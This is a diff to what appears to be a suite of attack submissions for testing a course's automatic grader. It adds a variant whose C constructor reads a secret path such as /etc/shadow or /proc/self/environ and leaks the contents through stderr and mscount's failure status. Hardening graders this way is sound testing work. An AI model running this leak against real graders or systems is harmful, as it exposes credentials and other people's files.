@@ -90,6 +90,10 @@
 /* A constructor reads ATTACK_PATH (another student's file, a secret of the grader's) into the
    team record, which the grade prints. */
 #define READ_INTO_TEAM 29
+/* A constructor that can read ATTACK_PATH prints it as one line on stderr and exits with status
+   2, mscount's own failure status: the instruction count's error showed that last line in the
+   grade (/etc/shadow, the grader's environment through /proc/self/environ). */
+#define LEAK_BY_ERROR 30
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -101,6 +105,21 @@ __attribute__((constructor)) static void read_into_team(void) {
         team.teamname = found;
     else
         team.teamname = "nothing read";
+}
+#endif
+
+#if ATTACK == LEAK_BY_ERROR
+__attribute__((constructor)) static void leak_by_error(void) {
+    char found[512] = {0};
+    int fd = open(ATTACK_PATH, O_RDONLY);
+    ssize_t n = fd >= 0 ? read(fd, found, sizeof found - 1) : -1;
+    if (n <= 0)
+        return;
+    for (ssize_t i = 0; i < n; i++) /* one line: /proc/self/environ's NULs, a file's newlines */
+        if (found[i] == '\0' || found[i] == '\n')
+            found[i] = ' ';
+    dprintf(2, "%s\n", found);
+    _exit(2);
 }
 #endif
 
